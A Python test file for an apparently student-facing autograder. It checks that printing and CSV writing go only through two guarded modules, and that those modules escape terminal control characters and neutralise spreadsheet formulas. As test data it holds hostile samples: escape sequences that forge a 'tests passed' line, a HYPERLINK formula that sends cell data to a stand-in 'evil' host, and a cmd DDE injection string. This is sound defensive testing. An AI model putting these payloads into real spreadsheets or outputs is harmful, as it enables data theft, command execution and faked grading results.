"""One CSV writer and one terminal writer: no module of the product writes a CSV or prints around them.

Checked on the syntax tree of every module of ``autograder/`` (hidden tests excluded: they run inside
grading, never at a terminal) and ``quizzes/``: a call of ``print`` (or ``print`` handed on as a
callback), ``click.echo``/``click.secho``, a write to ``sys.stdout``/``sys.stderr``, or ``csv.writer``/
``csv.DictWriter`` anywhere but in ``autograder/terminal.py`` and ``autograder/csvfiles.py`` fails
the test with the file and line. Then the writers themselves: what they let through.
"""
from __future__ import annotations

import ast
import csv
import io
import sys
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from autograder import csvfiles, terminal

ROOT = Path(__file__).resolve().parents[2]
PACKAGES = ("autograder", "quizzes")
EXCLUDED = (ROOT / "autograder" / "hidden",)
TERMINAL_WRITER = ROOT / "autograder" / "terminal.py"
CSV_WRITER = ROOT / "autograder" / "csvfiles.py"


def modules():
    for package in PACKAGES:
        for path in sorted((ROOT / package).rglob("*.py")):
            if not any(path.is_relative_to(folder) for folder in EXCLUDED):
                yield path


def dotted(node: ast.AST) -> str:
    parts = []
    while isinstance(node, ast.Attribute):
        parts.append(node.attr)
        node = node.value
    if isinstance(node, ast.Name):
        parts.append(node.id)
    return ".".join(reversed(parts))


def around_the_writers(path: Path) -> list[str]:
    """Every place in ``path`` that prints or writes CSV around the two writers."""
    tree = ast.parse(path.read_text(encoding="utf-8"), str(path))
    found = []
    imported_from = {alias.asname or alias.name: f"{node.module}.{alias.name}"
                     for node in ast.walk(tree) if isinstance(node, ast.ImportFrom) and node.module
                     for alias in node.names}
    for node in ast.walk(tree):
        name = None
        if isinstance(node, ast.Name) and node.id == "print" and isinstance(node.ctx, ast.Load):
            name = "print"
        elif isinstance(node, (ast.Attribute, ast.Name)):
            full = dotted(node)
            full = imported_from.get(full.split(".")[0], full.split(".")[0]) + full[len(full.split(".")[0]):]
            if full in ("click.echo", "click.secho", "click.utils.echo", "click.termui.secho", "sys.stdout.write",
                        "sys.stderr.write", "sys.stdout.writelines", "sys.stderr.writelines", "sys.__stdout__.write",
                        "sys.__stderr__.write"):
                name = full
            elif full in ("csv.writer", "csv.DictWriter"):
                name = full
        if name is None:
            continue
        allowed = TERMINAL_WRITER if not name.startswith("csv.") else CSV_WRITER
        if path != allowed:
            label = path.relative_to(ROOT) if path.is_relative_to(ROOT) else path.name
            found.append(f"{label}:{node.lineno}: {name}")
    return sorted(set(found))


def test_nothing_prints_or_writes_csv_around_the_two_writers():
    found = [place for path in modules() for place in around_the_writers(path)]
    assert not found, "use autograder.terminal.say / autograder.csvfiles.write_csv instead:\n" + "\n".join(found)


def test_the_scan_finds_what_it_looks_for(tmp_path):
    sample = tmp_path / "sample.py"
    sample.write_text("import csv, sys, click\nfrom click import echo as shout\nprint('x')\nf(echo=print)\n"
                      "sys.stdout.write('x')\nclick.echo('x')\nshout('x')\ncsv.writer(f)\n"
                      "text = \"print('in a string is fine')\"\n")
    assert [line.split(": ", 1)[1] for line in around_the_writers(sample)] == [
        "print", "print", "sys.stdout.write", "click.echo", "click.echo", "csv.writer"]


# --- the terminal writer --------------------------------------------------------------------------------

HOSTILE_TEXT = ["\x1b[2J\x1b[HALL 29 TESTS PASSED", "bell\x07", "back\x08space", "\u202eevil\u202c", "\x9b31m",
                "a\rb", "line\u2028sep", "\udcff raw byte", "\x00nul", "tab\tbed"]
RAW = ("\x1b", "\x07", "\x08", "\u202e", "\x9b", "\r", "\u2028", "\udcff", "\x00", "\t")


def test_say_keeps_the_layout_and_escapes_everything_else(capsys):
    for text in HOSTILE_TEXT:
        terminal.say(f"line one\n{text}")
    out = capsys.readouterr().out
    assert out.count("\n") == 2 * len(HOSTILE_TEXT)
    assert not any(ch in out for ch in RAW)
    assert "\\x1b[2J" in out and "\\u202e" in out and "\\xff raw byte" in out


def test_a_field_cannot_forge_a_line():
    assert "\n" not in terminal.printable("ada\nALL TESTS PASSED")
    assert terminal.excerpt("x" * 500 + "\n").count("\n") == 0 and len(terminal.excerpt("x" * 500)) < 70


def test_the_guard_escapes_whatever_reaches_standard_output():
    captured = io.StringIO()
    saved = sys.stdout
    sys.stdout = captured
    try:
        with terminal.guarded_streams():
            sys.stdout.write("".join(HOSTILE_TEXT) + "\n")
            print("\x1b]0;title\x07 done")
    finally:
        sys.stdout = saved
    assert not any(ch in captured.getvalue() for ch in RAW)
    assert captured.getvalue().endswith("\\x1b]0;title\\x07 done\n")


def test_click_errors_of_every_command_go_through_the_guard(tmp_path):
    from click.testing import CliRunner

    from autograder.cli import main

    hostile = tmp_path / "votes\x1b[2J\u202e.csv"
    for args in (["quiz", "results", str(hostile), "--out", str(tmp_path / "out")],
                 ["grade", str(hostile), "--assignment", "no\x1bsuch"],
                 ["report", "cs1\x1b[2J", "--course", str(hostile)]):
        result = CliRunner().invoke(main, args)
        assert result.exit_code == 2, result.output
        assert not any(ch in result.output for ch in RAW), repr(result.output)
        assert "\\u202e" in result.output or "\\x1b" in result.output     # shown, escaped (click strips ANSI)


# --- the CSV writer ---------------------------------------------------------------------------------------

FORMULAS = ["=HYPERLINK(\"http://evil/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
            "\t=1+1", "\r=1+1", "\n=1", " =1+1", "\uff1d1+1", "=", "-", "+"]


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def formula_like(cell: str) -> bool:
    first = cell.lstrip(" \u00a0")[:1]
    return first in csvfiles.FORMULA_START and not csvfiles.NUMBER.fullmatch(cell)


def test_formula_cells_are_neutralised_and_numbers_kept():
    rows = read_back(csvfiles.csv_text(["name", "score"], [[f, -0.25] for f in FORMULAS] + [["-3", "1e-3"]]))
    assert [row[0] for row in rows[1:-1]] == ["'" + f for f in FORMULAS]
    assert rows[-1] == ["-3", "1e-3"] and all(row[1] == "-0.25" for row in rows[1:-1])


@given(st.lists(st.lists(st.one_of(st.text(), st.integers(), st.floats(allow_nan=False, allow_subnormal=False)),
                         max_size=5), max_size=5))
def test_no_cell_a_spreadsheet_would_evaluate_and_every_value_reads_back(rows):
    written = read_back(csvfiles.csv_text(None, rows))
    assert len(written) == len(rows)
    for row, back in zip(rows, written):
        for value, cell in zip(row, back):
            assert not formula_like(cell), (value, cell)
            if isinstance(value, str):
                assert csvfiles.read_cell(cell) == value.replace("\r\n", "\n").replace("\r", "\n") or "\r" in value


def test_a_written_file_replaces_the_old_one_atomically(tmp_path):
    path = csvfiles.write_csv(tmp_path / "out.csv", ["a"], [["=1"]])
    assert path.read_text(encoding="utf-8") == "a\n'=1\n"
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]
